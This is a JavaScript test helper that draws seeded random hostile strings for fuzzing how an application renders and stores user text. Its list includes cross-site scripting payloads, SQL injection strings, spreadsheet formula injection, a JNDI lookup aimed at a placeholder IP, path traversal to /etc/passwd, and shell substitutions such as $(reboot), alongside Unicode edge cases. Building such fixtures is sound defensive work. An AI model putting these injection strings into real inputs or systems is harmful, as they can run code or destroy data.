/** Texts that somebody might type to harm whoever reads them: drawn by a seed, so that a text that harmed can be had again. */

const RUN = "globalThis.harmed=(globalThis.harmed??0)+1";
const PARTS = [
  `<script>${RUN}</script>`, `"><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</p></li><img src=x onerror="${RUN}">`, `<svg onload=${RUN}>`, `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<a href="javascript:${RUN}">x</a>`, `javascript:${RUN}`, `<img src="data:image/svg+xml,<svg onload=${RUN}>">`, `<style>*{display:none}</style>`, `<base href="//192.0.2.1/">`, `<meta http-equiv=refresh content="0;url=//192.0.2.1">`,
  `<form action=//192.0.2.1><button>`, `<template shadowrootmode=open><script>${RUN}</script>`, "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<!--", "-->", "]]>", "<![CDATA[", "&lt;b&gt;", "&#x3c;script&#x3e;", "%3Cscript%3E", "\\u003cscript\\u003e",
  "'; DROP TABLE topic; --", "1' OR '1'='1", "\" OR 1=1 --", "Robert'); DELETE FROM topic WHERE ('a'='a", "%_\\", "?1 $1 :a @b",
  "=1+1", "=HYPERLINK(\"//192.0.2.1\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "＝1+1", "'=1", "|x", "a,b;c", "\"quoted\"",
  "\u202egnp.exe\u202c", "\u2066left\u2069", "\u202d\u202d\u202d", "\u200f\u200e", "مرحبا بالعالم", "שלום עולם", "abc\u202eשלום", "\u061c", "السعر ١٢٣ €",
  "\u200b\u200b", "\u200d", "\ufeff", "\u2060", "\u00ad", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307".repeat(6), "Z\u0351\u036b\u0343\u036a".repeat(20), "\u20dd\u20de", "\u034f",
  "👨‍👩‍👧‍👦", "🏳️‍🌈", "👩🏽‍🚀", "🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}", "🇫🇮", "👍🏿".repeat(30), "e\u0301", "\u212b", "\ufb01", "각", "\u1112\u1161\u11ab",
  "\ud83d", "\udc00", "\udc00\ud83d", "x\ud800y", "\ufffe", "\uffff", "\u{10ffff}", "\ue000", "\u0000", "\u0007\u0008\u001b[31m", "\u007f\u0080\u009f", "\u2028\u2029", "\u0085", "\r\n\r\n\r\n", "\n".repeat(40), "\t\t\t", "\ufff9a\ufffab\ufffb",
  "W".repeat(500), "ﷺ".repeat(60), "﷽".repeat(40), "i".repeat(300), "𒐫".repeat(40), "———".repeat(60), "ไ".repeat(100), "http://192.0.2.1/".repeat(20), "　".repeat(50), "\u00a0".repeat(100), "꧅".repeat(60),
  "__proto__", "constructor", "null", "undefined", "NaN", "[object Object]", "{\"id\":1}", "true", "../../etc/passwd", "C:\\CON", "${jndi:ldap://192.0.2.1/a}", "<%= 7*7 %>", "$(reboot)", "`id`",
];

/** So many texts of at most 500 characters once they are plain; each part stands alone at first. */
export function hostile(count, seed = 8) {
  let state = seed;
  const below = (most) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * most);
  };
  const drawn = () => Array.from({ length: 1 + below(4) }, () => PARTS[below(PARTS.length)]).join(["", " ", "\n", "x"][below(4)]);
  // Split by units, so that pairs are torn apart as well.
  const cut = (text) => (below(8) ? text : text.slice(below(5), text.length - below(5)));
  return Array.from({ length: count }, (_, place) => Array.from(place < PARTS.length ? PARTS[place] : cut(drawn())).slice(0, 500).join(""));
}
